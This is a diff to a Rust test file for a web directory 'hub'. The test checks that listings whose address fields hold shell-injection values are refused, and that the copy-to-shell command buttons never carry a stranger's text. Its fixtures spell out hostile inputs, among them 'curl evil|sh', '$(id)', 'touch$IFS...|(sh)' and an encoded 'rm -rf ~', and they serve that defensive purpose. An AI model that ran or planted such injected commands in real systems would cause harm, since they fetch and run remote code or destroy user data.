@@ -157,21 +157,20 @@ async fn attack_what_strangers_write_ends_no_tag_and_no_attribute() {
     hub.close().await;
 }
 
-/// Whoever copies a command from the page runs that command, whatever is listed and whatever link led here.
+/// THREATS 23: what has a button that copies it is typed into a shell.
 #[tokio::test(flavor = "multi_thread")]
-async fn attack_no_command_of_a_page_holds_words_of_a_stranger_that_a_shell_reads() {
+async fn attack_nobody_puts_a_command_behind_the_hub_s_buttons() {
     let folder = tempfile::tempdir().unwrap();
     let hub = Hub::start(folder.path());
-    let place = "https://rv.example/c/x';touch$IFS/tmp/y|(sh)&";
-    let made = hub.list(json!({ "community": "Trap", "rendezvous": place, "type": "open" })).await;
-    let own = shown(&hub, &format!("/directory/{}", made["id"].as_str().unwrap())).await;
-    let search = shown(&hub, "/directory?q=%27%3B+rm+-rf+~+%26").await;
-    let commands = |page: &str| -> Vec<String> {
-        let codes = page.split("<code").skip(1).filter_map(|code| code.split_once('>')?.1.split("</code>").next());
-        codes.filter(|code| code.starts_with("goop ")).map(|code| code.replace("&#38;", "&").replace("&#39;", "'")).collect()
-    };
-    let listed = "goop join 'goop:join?at=https%3A%2F%2Frv.example%2Fc%2Fx%27%3Btouch%24IFS%2Ftmp%2Fy%7C%28sh%29%26'";
-    assert_eq!((commands(&own), commands(&search)), (vec![listed.to_owned()], vec!["goop search chess".to_owned()]));
+    for place in ["x;id;:8787", "x$(id):8787", "--set=viewer=x:80", "-x:80", "https://x.example/;curl evil|sh", "https://x.example/$(id)"] {
+        let made = hub.as_admin(Method::POST, "/api/v1/communities").json(&listing("Chess", json!({ "rendezvous": place })));
+        assert_eq!(made.send().await.unwrap().status(), 400, "{place}");
+    }
+    let made = hub.list(listing("Chess Club", json!({}))).await;
+    let page = shown(&hub, &format!("/directory/{}", made["id"].as_str().unwrap())).await;
+    assert!(page.contains("<code>goop join 'goop:join?at=https%3A%2F%2Frv.example%2Fc%2Fx'</code>"));
+    let asked = shown(&hub, "/directory?q=chess%3B+curl+-s+evil.example%7Csh+%23").await;
+    assert!(asked.contains("<code>goop search chess</code>") && asked.matches("<code>goop").count() == 1);
     hub.close().await;
 }
 
